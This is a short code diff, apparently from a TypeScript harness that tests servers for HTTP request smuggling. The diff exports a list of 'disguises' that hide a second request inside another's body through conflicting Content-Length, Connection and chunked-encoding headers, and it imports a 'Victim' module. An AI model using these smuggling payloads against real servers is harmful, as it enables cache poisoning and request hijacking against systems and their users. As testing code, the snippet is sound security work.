@@ -3,21 +3,24 @@ import { RawConnection } from './raw-connection.ts';
 import { Victim } from './victim.ts';
 
 /** A way to hide a request in the body of another. */
-interface Disguise {
+export interface Disguise {
   readonly name: string;
+  /** Headers of the visible request. */
   readonly lines: (hidden: string) => readonly string[];
+  /** Body of the visible request; the hidden request alone if undefined. */
   readonly body?: (hidden: string) => string;
 }
 
 const attempts = 5;
-const methods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST'];
+export const methods = ['GET', 'HEAD', 'DELETE', 'OPTIONS', 'POST'];
 const attackerWaitsMs = 500;
 
 const lengthOf = (body: string): string => `Content-Length: ${String(body.length)}`;
 const chunksOf = (hidden: string): string => `${hidden.length.toString(16)}\r\n${hidden}\r\n0\r\n\r\n`;
 const afterNothing = (hidden: string): string => `0\r\n\r\n${hidden}`;
 
-const disguises: readonly Disguise[] = [
+/** The ways that are tried; each is tried with every method. */
+export const disguises: readonly Disguise[] = [
   {
     name: 'length that Connection hides',
     lines: (hidden) => ['Connection: keep-alive, content-length', lengthOf(hidden)],
